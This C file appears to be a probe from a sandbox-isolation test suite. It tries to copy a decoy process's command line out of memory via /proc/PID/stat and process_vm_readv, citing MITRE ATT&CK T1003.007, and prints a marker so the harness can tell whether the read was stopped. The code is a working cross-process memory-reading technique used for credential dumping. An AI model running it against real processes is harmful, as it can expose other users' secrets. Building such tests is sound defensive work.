/*
 * family: injection
 * tries: copy a host process's command line straight out of its memory with process_vm_readv (the decoy, argv 7), no attach
 * source: https://attack.mitre.org/techniques/T1003/007/
 * exfil: yes
 * stopped-when: canary-unread
 * attempted-when: marker
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
	static char buf[65536];
	unsigned long start = 0, end = 0;
	char path[64], stat[4096], *p;
	struct iovec local, remote;
	pid_t decoy;
	ssize_t n;
	FILE *f;
	int field;

	if (argc < 9) {
		fprintf(stderr,
		    "usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES\n");
		return 2;
	}
	fprintf(stderr, "ATTEMPTED %s\n", argv[1]);
	decoy = (pid_t)atoi(argv[7]);
	/* arg_start and arg_end: fields 48 and 49 of /proc/PID/stat, proc(5). */
	snprintf(path, sizeof(path), "/proc/%d/stat", (int)decoy);
	if ((f = fopen(path, "r")) == NULL) {
		printf("%s: %s\n", path, strerror(errno));
		return 1;
	}
	n = (ssize_t)fread(stat, 1, sizeof(stat) - 1, f);
	fclose(f);
	stat[n] = '\0';
	p = strrchr(stat, ')');
	for (field = 3, p = p ? p + 2 : NULL; field < 48 && p; field++)
		if ((p = strchr(p, ' ')) != NULL)
			p++;
	if (p == NULL || sscanf(p, "%lu %lu", &start, &end) != 2 ||
	    start == 0 || end <= start) {
		printf("no argument area in %s\n", path);
		return 1;
	}
	local.iov_base = buf;
	local.iov_len = end - start < sizeof(buf) ? end - start : sizeof(buf);
	remote.iov_base = (void *)start;
	remote.iov_len = local.iov_len;
	if ((n = process_vm_readv(decoy, &local, 1, &remote, 1, 0)) < 0) {
		printf("process_vm_readv: %s\n", strerror(errno));
		return 1;
	}
	for (ssize_t i = 0; i < n; i++)
		putchar(buf[i] == '\0' ? ' ' : buf[i]);
	putchar('\n');
	return 0;
}
